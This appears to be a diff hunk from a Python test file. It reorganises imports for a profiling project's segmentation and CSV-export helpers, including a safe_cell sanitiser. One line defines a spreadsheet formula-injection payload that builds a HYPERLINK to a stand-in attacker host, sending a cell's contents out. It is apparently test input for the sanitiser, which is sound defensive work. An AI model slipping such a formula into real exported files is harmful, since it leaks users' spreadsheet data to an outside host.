@@ -10,9 +10,9 @@ from hypothesis import given
 from hypothesis import strategies as st
 
 from tasteprint.profiling.errors import SettingsError
-from tasteprint.profiling.models.profiles import Spend
+from tasteprint.profiling.models import Spend
+from tasteprint.profiling.segmentation import segment
 from tasteprint.profiling.segmentation.export import safe_cell, schema, user_rows, write_table
-from tasteprint.profiling.segmentation.segments import segment
 
 EVIL = '=HYPERLINK("http://evil.example?"&A1,"click")'
 
